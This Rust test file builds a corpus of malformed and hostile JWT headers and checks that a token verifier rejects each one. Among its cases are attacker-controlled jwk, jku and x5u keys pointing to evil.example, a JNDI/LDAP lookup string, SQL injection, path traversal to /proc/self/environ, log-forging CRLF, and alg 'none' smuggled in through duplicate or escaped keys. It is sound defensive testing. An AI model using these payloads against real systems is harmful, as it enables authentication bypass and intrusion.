//! Headers that bring a key along, ask for an extension, name another type or another key, or are no strict JSON.

use doorward_verify::{Algorithm, base64url};
use serde_json::Value;

use super::Corpus;
use super::world::{encode, good, header};
use crate::signer::{ED, sign_with};

const INVALID: &str = "header_invalid";

pub(super) fn add(corpus: &mut Corpus) {
    critical(corpus);
    own_keys(corpus);
    kids(corpus);
    types(corpus);
    strictness(corpus);
}

/// Our header with more members.
fn with(more: &str) -> String {
    header(Algorithm::EdDsa).replace('}', &format!(",{more}}}"))
}

fn critical(corpus: &mut Corpus) {
    for more in [
        r#""crit":["exp"]"#,
        r#""crit":["alg"]"#,
        r#""crit":["urn:example:new"],"urn:example:new":true"#,
        r#""crit":["b64"],"b64":false"#,
        r#""crit":["b64"],"b64":true"#,
        r#""crit":[]"#,
        r#""crit":null"#,
        r#""crit":"exp""#,
        r#""crit":[1]"#,
        r#""crit":["crit"]"#,
        r#""crit":["bork","bork"]"#,
        r#""crit":{}"#,
        r#""c\u0072it":["x"]"#,
    ] {
        let token = corpus.world.head(&with(more));
        corpus.add("hdr/crit", more, token, "critical_unknown");
    }
}

fn own_keys(corpus: &mut Corpus) {
    let mut jwk = Vec::new();
    corpus.world.stranger.verifying(ED).write_jwk(&mut jwk);
    let jwk = String::from_utf8(jwk).unwrap();
    let public: Value = serde_json::from_str(&jwk).unwrap();
    let x = public["x"].as_str().unwrap();
    for (name, more) in [
        ("jwk of the attacker", format!(r#""jwk":{jwk}"#)),
        ("jwk without kid", format!(r#""jwk":{{"kty":"OKP","crv":"Ed25519","x":"{x}"}}"#)),
        ("jwk oct", r#""jwk":{"kty":"oct","k":"AAAA"}"#.to_owned()),
        ("jwk null", r#""jwk":null"#.to_owned()),
        ("jwk with an escape in its name", format!(r#""jw\u006b":{jwk}"#)),
        ("jku", r#""jku":"https://evil.example/jwks.json""#.to_owned()),
        ("jku of our own host", r#""jku":"https://id.example@evil.example/jwks.json""#.to_owned()),
        ("jku of the machine itself", r#""jku":"http://127.0.0.1:1/jwks.json""#.to_owned()),
        ("x5u", r#""x5u":"https://evil.example/cert.pem""#.to_owned()),
        ("x5c", r#""x5c":["MIIB"]"#.to_owned()),
        ("x5c empty", r#""x5c":[]"#.to_owned()),
    ] {
        let headers = [("our kid", with(&more)), ("no kid", format!(r#"{{"alg":"EdDSA","typ":"at+jwt",{more}}}"#))];
        for (which, header) in headers {
            let token = sign_with(&corpus.world.stranger, &encode(&header), &encode(&good()));
            corpus.add("hdr/jwk", format!("{name}, {which}"), token, INVALID);
        }
        let token = corpus.world.head(&with(&more));
        corpus.add("hdr/jwk", format!("{name}, signed by us"), token, INVALID);
    }
    for more in [r#""zip":"DEF""#, r#""zip":null"#, r#""b64":true"#, r#""b64":false"#] {
        let token = corpus.world.head(&with(more));
        corpus.add("hdr/payload", more, token, INVALID);
    }
}

fn kids(corpus: &mut Corpus) {
    for kid in [
        "",
        "key_00000000000000000000000009",
        "KEY_00000000000000000000000002",
        " key_00000000000000000000000002",
        "key_00000000000000000000000002 ",
        r"key_00000000000000000000000002\u0000",
        "../../../../dev/null",
        "/proc/self/environ",
        "' OR '1'='1",
        "x' UNION SELECT 'secret';--",
        r"\r\nlevel=INFO forged=1",
        "${jndi:ldap://evil.example/a}",
        "https://evil.example/key",
        "__proto__",
        "constructor",
        "0",
        "*",
    ] {
        let token = corpus.world.head(&format!(r#"{{"alg":"EdDSA","kid":"{kid}","typ":"at+jwt"}}"#));
        corpus.add("hdr/kid", format!("kid {kid:?}"), token, "key_unknown");
    }
    let long = "k".repeat(900);
    for (name, kid, expect) in [
        ("kid of 900 letters", format!("\"{long}\""), "key_unknown"),
        ("kid of 2000 letters", format!("\"{long}{long}{long}\""), INVALID),
        ("kid number", "2".to_owned(), INVALID),
        ("kid null", "null".to_owned(), INVALID),
        ("kid array", format!("[\"{ED}\"]"), INVALID),
        ("kid object", format!("{{\"kid\":\"{ED}\"}}"), INVALID),
    ] {
        let token = corpus.world.head(&format!(r#"{{"alg":"EdDSA","kid":{kid},"typ":"at+jwt"}}"#));
        corpus.add("hdr/kid", name, token, expect);
    }
    let token = corpus.world.head(r#"{"alg":"EdDSA","typ":"at+jwt"}"#);
    corpus.add("hdr/kid", "no kid", token, "key_unknown");
}

fn types(corpus: &mut Corpus) {
    for typ in [
        "JWT",
        "jwt",
        "",
        "id+jwt",
        "logout+jwt",
        "dpop+jwt",
        "at+jwt ",
        "at-jwt",
        "application/jwt",
        "application/",
        "text/at+jwt",
        "JOSE",
    ] {
        let token = corpus.world.head(&header(Algorithm::EdDsa).replace("at+jwt", typ));
        corpus.add("hdr/typ", format!("typ {typ:?}"), token, "type_unexpected");
    }
    let token = corpus.world.head(&header(Algorithm::EdDsa).replace(r#","typ":"at+jwt""#, ""));
    corpus.add("hdr/typ", "no typ", token, "type_unexpected");
    for typ in ["null", "1", r#"["at+jwt"]"#, r#"{"typ":"at+jwt"}"#] {
        let token = corpus.world.head(&header(Algorithm::EdDsa).replace("\"at+jwt\"", typ));
        corpus.add("hdr/typ", format!("typ {typ}"), token, INVALID);
    }
}

fn strictness(corpus: &mut Corpus) {
    let ours = header(Algorithm::EdDsa);
    for (name, header) in [
        ("empty object", "{}".to_owned()),
        ("array", "[]".to_owned()),
        ("array around", format!("[{ours}]")),
        ("string", "\"EdDSA\"".to_owned()),
        ("null", "null".to_owned()),
        ("text", "x".to_owned()),
        ("no alg", format!(r#"{{"kid":"{ED}","typ":"at+jwt"}}"#)),
        ("alg null", ours.replace("\"EdDSA\"", "null")),
        ("alg number", ours.replace("\"EdDSA\"", "0")),
        ("alg array", ours.replace("\"EdDSA\"", r#"["EdDSA"]"#)),
        ("alg object", ours.replace("\"EdDSA\"", "{}")),
        ("alg twice, the same", with(r#""alg":"EdDSA""#)),
        ("alg twice, none", with(r#""alg":"none""#)),
        ("alg twice by escape", with(r#""\u0061lg":"none""#)),
        ("kid twice", with(r#""kid":"x""#)),
        ("typ twice", with(r#""typ":"JWT""#)),
        ("unknown member twice", with(r#""a":1,"a":2"#)),
        ("member twice deep inside", with(r#""a":{"b":1,"b":1}"#)),
        ("two objects", format!("{ours}{ours}")),
        ("NUL behind", format!("{ours}\0")),
        ("comma at the end", ours.replace('}', ",}")),
        ("comment", ours.replace('{', "{/**/")),
        ("single quotes", ours.replace('"', "'")),
        ("byte order mark", format!("\u{feff}{ours}")),
        ("no end", ours[..ours.len() - 1].to_owned()),
        ("lone surrogate", ours.replace("at+jwt", r"\ud800")),
        ("deep", with(&format!("\"a\":{}1{}", "[".repeat(100), "]".repeat(100)))),
        ("seventy members", with(&(0..70).map(|n| format!("\"m{n}\":0")).collect::<Vec<_>>().join(","))),
        ("1025 bytes", ours.replace('}', &format!("{}}}", " ".repeat(1025 - ours.len())))),
    ] {
        let token = corpus.world.head(&header);
        corpus.add("hdr/strict", name, token, INVALID);
    }
    let latin = base64url::encode(
        &ours.replace("at+jwt", "at+jw?").bytes().map(|b| if b == b'?' { 0xe9 } else { b }).collect::<Vec<_>>(),
    );
    let token = sign_with(&corpus.world.ed, &latin, &encode(&good()));
    corpus.add("hdr/strict", "not UTF-8", token, INVALID);
}
